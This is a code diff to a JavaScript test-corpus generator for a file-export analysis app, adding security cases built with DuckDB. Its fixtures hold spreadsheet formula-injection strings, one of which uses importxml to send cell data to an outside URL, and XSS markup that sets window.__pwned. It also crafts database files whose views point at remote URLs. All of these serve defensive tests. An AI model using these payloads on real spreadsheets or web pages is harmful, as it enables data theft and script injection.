@@ -9,7 +9,7 @@ import { mkdirSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node
 import { join, resolve } from 'node:path';
 
 /** Bump when a case changes, so a stale corpus is rebuilt. */
-export const CORPUS_VERSION = 5;
+export const CORPUS_VERSION = 6;
 
 const DAY = 86_400_000;
 /** Two instants every case uses as valid times: the oldest and newest modified time by construction. */
@@ -317,6 +317,9 @@ export async function generateBadInputs(out = 'data/bad-inputs') {
 		cases.push({ name: 'storage-ancient', files: ['export.duckdb'], expect: { error: 'export\\.duckdb was written by a DuckDB version this app cannot read' } });
 	}
 
+	// Nothing leaves the browser, no formula escapes: the cases of securityCases (its own block below).
+	cases.push(...(await securityCases(conn, dir, { exportCase, duckdbCase })));
+
 	const manifest = { version: CORPUS_VERSION, cases, hostile: await hostileExport(conn, dir('hostile')) };
 	writeFileSync(marker, JSON.stringify(manifest, null, '\t'));
 	return manifest;
@@ -380,6 +383,241 @@ async function hostileExport(conn, d) {
 	}
 	if (longPath.length !== 4096) throw new Error(`the long path is ${longPath.length} characters`);
 	return { files, total: id, byExtension, byTopFolder, longTopFolder: top(folders.p3), hostile: HOSTILE };
+}
+
+/* ============================================================================================== */
+/* Security cases: nothing leaves the browser, no formula escapes, no script runs.               */
+/* Kept in one block of their own, apart from the rest of the corpus.                            */
+/* ============================================================================================== */
+
+/** A host that never resolves (RFC 2606): a request to it is a foreign request, whatever answers. */
+export const FOREIGN_HOST = 'example.invalid';
+
+/** Text that would run as a formula in a spreadsheet, and what each export must write instead. */
+export const FORMULA_NAMES = [
+	['=1+1.txt', "'=1+1.txt"],
+	['-0+importxml(concat("http://x/?",a1),"/")', `'-0+importxml(concat("http://x/?",a1),"/")`],
+	['+cmd.exe', "'+cmd.exe"],
+	['@SUM(A1).xlsx', "'@SUM(A1).xlsx"],
+	['\t=tab.txt', "'\t=tab.txt"],
+	['\r=cr.txt', "'\r=cr.txt"]
+];
+/** Names and folders that only look odd: every export writes them exactly as they are. */
+export const PLAIN_NAMES = ['.profile', '10-Q.pdf', '2024 budget.xlsx', '<b>bold</b>.html', ';semi.txt'];
+export const PLAIN_FOLDERS = ['/srv/data/', '/home/user/.config/', '.hidden/cache/', '2024/reports/q1/'];
+/** Extensions with a formula lead: the top-extensions chart's labels. */
+export const FORMULA_EXTENSIONS = ['=1+1', '-2+3', '@sum', '+cmd'];
+
+/** Markup in names, extensions and folders that would set window.__pwned if it ever ran. */
+export const SCRIPT_TEXT = {
+	img: '<img src=x onerror="window.__pwned=1">',
+	svg: '<svg onload=window.__pwned=2>',
+	script: '"><script>window.__pwned=3</script>',
+	link: 'javascript:window.__pwned=4',
+	iframe: '<iframe srcdoc="<script>parent.__pwned=5</script>">'
+};
+
+/** A minimal valid SQLite 3 database (one table, one leaf page of rows), written byte by byte. */
+export function sqliteDatabase(table, columns, rows) {
+	const PAGE = 4096;
+	const varint = (n) => {
+		const bytes = [n & 0x7f];
+		for (let v = n >>> 7; v > 0; v >>>= 7) bytes.unshift((v & 0x7f) | 0x80);
+		return bytes;
+	};
+	const record = (values) => {
+		const types = [];
+		const body = [];
+		for (const v of values) {
+			if (v === null) types.push(0);
+			else if (typeof v === 'number') {
+				const b = Buffer.alloc(8);
+				b.writeBigInt64BE(BigInt(v));
+				types.push(6);
+				body.push(...b);
+			} else {
+				const b = Buffer.from(String(v), 'utf8');
+				types.push(b.length * 2 + 13);
+				body.push(...b);
+			}
+		}
+		const typeBytes = types.flatMap(varint);
+		const headerSize = typeBytes.length + 1 < 128 ? typeBytes.length + 1 : typeBytes.length + 2;
+		return [...varint(headerSize), ...typeBytes, ...body];
+	};
+	// A table b-tree leaf page: cells from the end of the page, their pointers after the page header.
+	const leafPage = (records, headerAt) => {
+		const page = Buffer.alloc(PAGE);
+		let end = PAGE;
+		records.forEach((values, i) => {
+			const payload = record(values);
+			const cell = Buffer.from([...varint(payload.length), ...varint(i + 1), ...payload]);
+			end -= cell.length;
+			cell.copy(page, end);
+			page.writeUInt16BE(end, headerAt + 8 + i * 2);
+		});
+		page[headerAt] = 0x0d;
+		page.writeUInt16BE(records.length, headerAt + 3);
+		page.writeUInt16BE(end, headerAt + 5);
+		return page;
+	};
+	const create = `CREATE TABLE ${table}(${columns.map(([n, t]) => `${n} ${t}`).join(', ')})`;
+	const first = leafPage([['table', table, table, 2, create]], 100);
+	// The 100-byte database header: page size, file format 1, payload fractions, 2 pages, schema format 4, UTF-8.
+	first.write('SQLite format 3\0', 0, 'latin1');
+	first.writeUInt16BE(PAGE, 16);
+	first.set([1, 1, 0, 64, 32, 32], 18);
+	first.writeUInt32BE(1, 24);
+	first.writeUInt32BE(2, 28);
+	first.writeUInt32BE(1, 40);
+	first.writeUInt32BE(4, 44);
+	first.writeUInt32BE(1, 56);
+	first.writeUInt32BE(1, 92);
+	first.writeUInt32BE(3040001, 96);
+	return Buffer.concat([first, leafPage(rows, 0)]);
+}
+
+/**
+ * Replace a string in a .duckdb file by another of the same length, keeping its blocks valid: a
+ * view over a URL cannot be created by native DuckDB here (binding it would need the httpfs
+ * extension and the network), so the view is created over a local file whose path has the URL's
+ * length, and the path is swapped for the URL. Blocks follow the 3 header blocks, 256 KiB each,
+ * starting with a checksum over the rest: 5381 XOR each 8-byte word × 0xbf58476d1ce4e5b9, so a
+ * changed word updates the sum by two products (as the storage-ancient case does for the header).
+ */
+function patchDuckdbString(file, from, to) {
+	if (Buffer.byteLength(from) !== Buffer.byteLength(to)) throw new Error('the swapped strings must have the same length');
+	const HEADER = 3 * 4096;
+	const BLOCK = 256 * 1024;
+	const mix = (w) => (w * 0xbf58476d1ce4e5b9n) & 0xffffffffffffffffn;
+	const bytes = readFileSync(file);
+	let found = 0;
+	for (let at = bytes.indexOf(from); at >= 0; at = bytes.indexOf(from, at + 1)) {
+		const block = HEADER + Math.floor((at - HEADER) / BLOCK) * BLOCK;
+		const word = (i) => block + 8 + Math.floor((i - block - 8) / 8) * 8;
+		const words = [];
+		for (let w = word(at); w <= word(at + from.length - 1); w += 8) words.push([w, bytes.readBigUInt64LE(w)]);
+		bytes.write(to, at);
+		let sum = bytes.readBigUInt64LE(block);
+		for (const [w, before] of words) sum ^= mix(before) ^ mix(bytes.readBigUInt64LE(w));
+		bytes.writeBigUInt64LE(sum, block);
+		found++;
+	}
+	if (!found) throw new Error(`${from} is not in ${file}`);
+	writeFileSync(file, bytes);
+}
+
+/**
+ * A .duckdb whose `table` is a view over `reader(url)`: created over a local copy of the rows (at a
+ * relative path as long as the URL), then pointed at the URL. The other tables are ordinary.
+ */
+async function remoteViewCase(conn, dir, name, { table, reader, url, tables }) {
+	const d = dir(name);
+	// A relative path as long as the URL, found through file_search_path while the view is bound.
+	const file = `${table}.x`;
+	const rel = `${'q'.repeat(url.length - file.length - 1)}/${file}`;
+	mkdirSync(join(d, rel, '..'), { recursive: true });
+	await writeTables(conn, { [table]: tables[table] });
+	await conn.run(`COPY ${JSON.stringify(table)} TO ${lit(join(d, rel))} (${reader === 'read_parquet' ? 'FORMAT parquet' : 'FORMAT csv, HEADER true'})`);
+	await conn.run(`DROP TABLE ${JSON.stringify(table)}`);
+	const db = join(d, 'export.duckdb');
+	await conn.run(`ATTACH ${lit(db)} AS x (STORAGE_VERSION 'v1.0.0')`);
+	await conn.run('USE x');
+	await writeTables(conn, Object.fromEntries(Object.entries(tables).filter(([t]) => t !== table)));
+	await conn.run(`SET file_search_path = ${lit(d)}`);
+	await conn.run(`CREATE VIEW ${JSON.stringify(table)} AS SELECT * FROM ${reader}(${lit(rel)})`);
+	await conn.run('RESET file_search_path');
+	await conn.run('USE memory');
+	await conn.run('DETACH x');
+	patchDuckdbString(db, rel, url);
+	rmSync(join(d, rel, '..'), { recursive: true, force: true });
+	return ['export.duckdb'];
+}
+
+/**
+ * Cases where an export tries to make the engine reach out (a SQLite file, views over URLs, URLs
+ * in the data), formula text every export must defuse, and markup that must never run.
+ */
+async function securityCases(conn, dir, { exportCase }) {
+	const cases = [];
+	const escape = (s) => s.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
+
+	// A SQLite database named .db: DuckDB would fetch its sqlite extension from the extension site.
+	{
+		const d = dir('sqlite-db');
+		writeFileSync(join(d, 'export.db'), sqliteDatabase('objects', [['objectId', 'TEXT'], ['name', 'TEXT'], ['primarySize', 'INTEGER']], [['o1', 'a.txt', 100], ['o2', 'b.pdf', 2000]]));
+		cases.push({ name: 'sqlite-db', files: ['export.db'], expect: { error: 'export\\.db is a SQLite database' } });
+	}
+
+	// A .duckdb whose objects table is a view over a CSV on another host.
+	{
+		const url = `https://${FOREIGN_HOST}/aparavi/objects.csv`;
+		const files = await remoteViewCase(conn, dir, 'remote-view-csv', { table: 'objects', reader: 'read_csv', url, tables: standardTables(plainExport(4)) });
+		cases.push({ name: 'remote-view-csv', files, expect: { error: `Table objects in export\\.duckdb is a view that reads ${escape(url)}` } });
+	}
+
+	// A .duckdb whose objects are a table but whose instances are a view over remote Parquet.
+	{
+		const url = `http://${FOREIGN_HOST}/exports/2024/instances.parquet`;
+		const files = await remoteViewCase(conn, dir, 'remote-view-parquet', { table: 'instances', reader: 'read_parquet', url, tables: standardTables(plainExport(4)) });
+		cases.push({ name: 'remote-view-parquet', files, expect: { error: `Table instances in export\\.duckdb is a view that reads ${escape(url)}` } });
+	}
+
+	// URLs as data: names, folders and extensions that are addresses, UNC paths, and Parquet
+	// key-value metadata naming a URL. They are text: shown, counted, never fetched.
+	{
+		const { objects, instances } = plainExport(4);
+		objects[0][3] = `https://${FOREIGN_HOST}/a.png`;
+		objects[1][3] = `\\\\${FOREIGN_HOST}\\share\\b.doc`;
+		objects[2][4] = `//${FOREIGN_HOST}/x`;
+		const parentPaths = [
+			['p1', `http://${FOREIGN_HOST}/share/`],
+			['p2', `\\\\${FOREIGN_HOST}\\c$\\`]
+		];
+		const d = dir('urls-in-data');
+		await writeTables(conn, standardTables({ objects, instances, parentPaths }));
+		await conn.run(`COPY objects TO ${lit(join(d, 'objects.parquet'))} (FORMAT parquet, KV_METADATA { source: 'https://${FOREIGN_HOST}/export', schema: 'http://${FOREIGN_HOST}/schema.json' })`);
+		await conn.run(`COPY instances TO ${lit(join(d, 'instances.parquet'))} (FORMAT parquet)`);
+		await copy(conn, 'parentPaths', join(d, 'parentPaths.csv'), 'csv');
+		for (const t of ['objects', 'instances', 'parentPaths']) await conn.run(`DROP TABLE ${JSON.stringify(t)}`);
+		cases.push({ name: 'urls-in-data', files: ['objects.parquet', 'instances.parquet', 'parentPaths.csv'], expect: { kpis: { files: 4, bytes: 1000, folders: 2 } } });
+	}
+
+	// Formula text in names, extensions and folders; folders starting with `/`, `.` or a digit.
+	// Every export must defuse the first and leave the rest alone.
+	{
+		const folders = [...PLAIN_FOLDERS, '@team/shared/', '-dash/'];
+		const parentPaths = folders.map((f, i) => [`p${i}`, f]);
+		const names = [...FORMULA_NAMES.map(([n]) => n), ...PLAIN_NAMES];
+		const objects = [];
+		const instances = [];
+		names.forEach((name, i) => {
+			const ext = i < FORMULA_EXTENSIONS.length ? FORMULA_EXTENSIONS[i] : 'txt';
+			// Distinct sizes, largest first in name order, so every file is among the largest.
+			const size = (names.length - i) * 1000;
+			objects.push([`o${i + 1}`, `p${i % folders.length}`, 'idxobject', name, ext, size, T_OLD]);
+			instances.push([i + 1, `o${i + 1}`, size, Math.floor(T_OLD / 1000), T_NEW, T_NEW, null]);
+		});
+		const files = await exportCase('formula-cells', standardTables({ objects, instances, parentPaths }));
+		const bytes = instances.reduce((n, r) => n + r[2], 0);
+		cases.push({
+			name: 'formula-cells',
+			files,
+			expect: { kpis: { files: names.length, bytes, folders: folders.length } },
+			formula: { names: FORMULA_NAMES, plainNames: PLAIN_NAMES, plainFolders: PLAIN_FOLDERS, extensions: FORMULA_EXTENSIONS }
+		});
+	}
+
+	// Markup in names, extensions and folders that sets window.__pwned if it ever runs.
+	{
+		const texts = Object.values(SCRIPT_TEXT);
+		const parentPaths = texts.map((t, i) => [`p${i}`, `/share/${t}/`]);
+		const objects = texts.map((t, i) => [`o${i + 1}`, `p${i}`, 'idxobject', `${t}.html`, t, (i + 1) * 10, T_OLD]);
+		const instances = texts.map((_, i) => [i + 1, `o${i + 1}`, (i + 1) * 10, Math.floor(T_OLD / 1000), T_NEW, T_NEW, null]);
+		const files = await exportCase('script-names', standardTables({ objects, instances, parentPaths }));
+		cases.push({ name: 'script-names', files, expect: { kpis: { files: texts.length, bytes: 150, folders: texts.length } } });
+	}
+	return cases;
 }
 
 if (import.meta.url === `file://${process.argv[1]}`) {
